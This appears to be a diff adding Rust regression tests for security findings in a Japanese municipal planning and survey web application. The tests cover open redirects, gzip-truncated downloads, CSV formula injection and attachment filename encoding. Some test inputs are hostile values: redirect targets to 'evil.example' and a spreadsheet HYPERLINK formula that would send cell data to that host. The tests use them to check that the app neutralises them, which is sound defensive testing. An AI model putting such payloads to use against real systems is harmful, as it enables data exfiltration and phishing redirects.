@@ -1,0 +1,265 @@
+//! Findings of the outside security probe (issue #12), one test each; docs/RELIABILITY.md lists them.
+
+use crate::support::*;
+use crate::surveys::{id_in_location, nonce_in};
+use axum::body::Body;
+use axum::http::{StatusCode, header};
+use std::io::Read;
+
+/// Redirect targets: only one `/` followed by neither `/` nor `\`, with no control or white-space
+/// character — a TAB in `/\t/evil.example` used to pass and browsers followed it off-site; a
+/// control character gave a 500 (and signing in set the session cookie first).
+#[tokio::test]
+async fn no_redirect_leaves_the_site_and_no_target_gives_a_500() {
+    each_backend(|t| async move {
+        let t = t.with_demo().await;
+        let mut c = t.client();
+        for back in [
+            "/%09/evil.example/x",
+            "/%0a/evil.example",
+            "//evil.example",
+            "/%5Cevil.example",
+            "/%01x",
+            "/%7F",
+        ] {
+            let res = c.get(&format!("/prefs?lang=en&back={back}")).await;
+            assert_eq!(res.status, StatusCode::SEE_OTHER, "back={back}");
+            assert_eq!(res.location(), "/", "back={back}");
+        }
+        let res = c.get("/prefs?lang=ja&back=/plans%3Fview%3Dall").await;
+        assert_eq!(res.location(), "/plans?view=all");
+        for next in ["/\t/evil.example/x", "/\u{1}x", "/ /evil.example"] {
+            let mut c = t.client();
+            let res = c
+                .post(
+                    "/login",
+                    &[
+                        ("email", "citizen@demo.kyodo.jp"),
+                        ("password", PASSWORD),
+                        ("next", next),
+                    ],
+                )
+                .await;
+            assert_eq!(res.status, StatusCode::SEE_OTHER, "next={next:?}");
+            assert_eq!(res.location(), "/account", "next={next:?}");
+        }
+        let mut c = t.client();
+        let res = c
+            .post(
+                "/login",
+                &[
+                    ("email", "citizen@demo.kyodo.jp"),
+                    ("password", PASSWORD),
+                    ("next", "/plans"),
+                ],
+            )
+            .await;
+        assert_eq!(res.location(), "/plans");
+        t
+    })
+    .await;
+}
+
+async fn get_encoded(c: &mut Client, path: &str, encoding: &str) -> Res {
+    let req = c
+        .request("GET", path)
+        .header(header::ACCEPT_ENCODING, encoding)
+        .body(Body::empty())
+        .unwrap();
+    c.send(req).await
+}
+
+/// Every download, with gzip and without: the same bytes. The streamed ones (survey responses,
+/// the audit log) used to end early under gzip — the compression layer polled the finished
+/// stream again and it panicked.
+#[tokio::test]
+async fn every_download_is_whole_with_gzip_and_identity() {
+    each_backend(|t| async move {
+        let t = t.with_demo().await;
+        let org = t.demo_org().await;
+        let (plan,): (i64,) = sqlx::query_as("SELECT id FROM plans WHERE organization_id = $1")
+            .bind(org)
+            .fetch_one(&t.app.db)
+            .await
+            .unwrap();
+        let (wave,): (i64,) = sqlx::query_as(
+            "SELECT id FROM surveys WHERE organization_id = $1 AND audience = 'codes' ORDER BY fiscal_year DESC",
+        )
+        .bind(org)
+        .fetch_one(&t.app.db)
+        .await
+        .unwrap();
+        let (cycle,): (i64,) = sqlx::query_as(
+            "SELECT id FROM eval_cycles WHERE organization_id = $1 AND published = 1 ORDER BY fiscal_year DESC",
+        )
+        .bind(org)
+        .fetch_one(&t.app.db)
+        .await
+        .unwrap();
+        let hq_routes = [
+            format!("/hq/surveys/{wave}/responses.csv"),
+            format!("/hq/surveys/{wave}/responses.xlsx"),
+        ];
+        let public_routes = [
+            format!("/plans/{plan}/items.csv"),
+            format!("/plans/{plan}/reports.csv"),
+            format!("/plans/{plan}/indicators.csv"),
+            format!("/plans/{plan}/effects.csv"),
+            format!("/plans/{plan}/plan.csv"),
+            format!("/evaluation/cycles/{cycle}/programmes.csv"),
+        ];
+        let mut hq = t.signed_in("hq@demo.kyodo.jp").await;
+        let mut admin = t.signed_in("admin@demo.kyodo.jp").await;
+        let mut public = t.client();
+        for (client, path) in hq_routes
+            .iter()
+            .map(|p| (0, p.clone()))
+            .chain(public_routes.iter().map(|p| (1, p.clone())))
+            .chain(std::iter::once((2, "/admin/audit.csv".to_string())))
+        {
+            let c = match client {
+                0 => &mut hq,
+                1 => &mut public,
+                _ => &mut admin,
+            };
+            let plain = get_encoded(c, &path, "identity").await;
+            assert_eq!(plain.status, StatusCode::OK, "{path}");
+            assert!(plain.bytes.len() > 100, "{path}: {} bytes", plain.bytes.len());
+            let zipped = get_encoded(c, &path, "gzip").await;
+            assert_eq!(zipped.status, StatusCode::OK, "{path} (gzip)");
+            assert_eq!(
+                zipped.headers.get(header::CONTENT_ENCODING).map(|v| v.to_str().unwrap()),
+                Some("gzip"),
+                "{path}"
+            );
+            let mut unzipped = Vec::new();
+            flate2::read::GzDecoder::new(zipped.bytes.as_slice())
+                .read_to_end(&mut unzipped)
+                .unwrap_or_else(|e| panic!("{path}: gzip body cut short: {e}"));
+            if path.ends_with(".xlsx") {
+                // A workbook records when it was written: compare its parts' count and its size.
+                assert!(unzipped.starts_with(b"PK"), "{path}");
+                assert!(unzipped.len().abs_diff(plain.bytes.len()) < 64, "{path}");
+            } else {
+                assert!(unzipped == plain.bytes, "{path}: gzip and identity differ");
+            }
+        }
+        t
+    })
+    .await;
+}
+
+/// A citizen's answer that is a spreadsheet formula reaches the responses CSV as text.
+#[tokio::test]
+async fn a_formula_in_an_answer_reaches_the_csv_as_text() {
+    each_backend(|t| async move {
+        let t = t.with_demo().await;
+        let mut hq = t.signed_in("hq@demo.kyodo.jp").await;
+        let res = hq
+            .post(
+                "/hq/surveys",
+                &[
+                    ("title", "ご意見"),
+                    ("fiscal_year", "2026"),
+                    ("audience", "public"),
+                ],
+            )
+            .await;
+        let id = id_in_location(&res);
+        let base = format!("/hq/surveys/{id}");
+        let res = hq
+            .post(
+                &format!("{base}/questions"),
+                &[("kind", "text"), ("label", "一言")],
+            )
+            .await;
+        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
+        let res = hq
+            .post(&format!("{base}/status"), &[("status", "open")])
+            .await;
+        assert_eq!(res.status, StatusCode::SEE_OTHER);
+        let (q,): (i64,) = sqlx::query_as("SELECT id FROM survey_questions WHERE survey_id = $1")
+            .bind(id)
+            .fetch_one(&t.app.db)
+            .await
+            .unwrap();
+        let payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
+        let mut c = t.client();
+        let nonce = nonce_in(&c.get(&format!("/surveys/{id}")).await.body);
+        let field = format!("q{q}");
+        let res = c
+            .post(
+                &format!("/surveys/{id}"),
+                &[("nonce", &nonce), (&field, payload)],
+            )
+            .await;
+        assert_eq!(res.status, StatusCode::OK, "{}", res.body);
+        let csv = hq.get(&format!("{base}/responses.csv")).await;
+        assert!(
+            csv.body
+                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"詳細\"\")\""),
+            "{}",
+            csv.body
+        );
+        assert!(!csv.body.contains(",\"=HYPERLINK"), "{}", csv.body);
+        t
+    })
+    .await;
+}
+
+/// Attachment names in any script, with spaces: RFC 6266 / 5987 (`%20`, not the form encoding's `+`).
+#[tokio::test]
+async fn attachment_names_keep_japanese_and_spaces() {
+    each_backend(|t| async move {
+        let t = t.with_demo().await;
+        let (node,): (i64,) = sqlx::query_as("SELECT id FROM plan_nodes WHERE seed_ref = 'S-1.3.3'")
+            .fetch_one(&t.app.db)
+            .await
+            .unwrap();
+        let (period,): (i64,) = sqlx::query_as(
+            "SELECT p.id FROM reporting_periods p JOIN plan_nodes n ON n.plan_id = p.plan_id WHERE n.id = $1 AND p.fiscal_year = 2010",
+        )
+        .bind(node)
+        .fetch_one(&t.app.db)
+        .await
+        .unwrap();
+        let period = period.to_string();
+        let url = format!("/plans/items/{node}/report");
+        let mut staff = t.signed_in("staff@demo.kyodo.jp").await;
+        let saved = staff
+            .post(
+                &url,
+                &[
+                    ("period", &period),
+                    ("action", "save"),
+                    ("progress", "in_progress"),
+                    ("rating", "A"),
+                    ("did", "d"),
+                    ("evaluation", "e"),
+                    ("next_steps", "n"),
+                ],
+            )
+            .await;
+        assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
+        let ok = staff
+            .post_multipart(
+                &format!("{url}/attachments"),
+                &[("period", &period)],
+                ("file", "会議 録 my report.pdf", b"%PDF-1.4 minutes"),
+            )
+            .await;
+        assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
+        let (att,): (i64,) = sqlx::query_as("SELECT id FROM report_attachments")
+            .fetch_one(&t.app.db)
+            .await
+            .unwrap();
+        let res = staff.get(&format!("/attachments/{att}")).await;
+        let cd = res.headers.get(header::CONTENT_DISPOSITION).unwrap().to_str().unwrap();
+        assert_eq!(
+            cd,
+            "attachment; filename=\"_____my_report.pdf\"; filename*=UTF-8''%E4%BC%9A%E8%AD%B0%20%E9%8C%B2%20my%20report.pdf"
+        );
+        t
+    })
+    .await;
+}
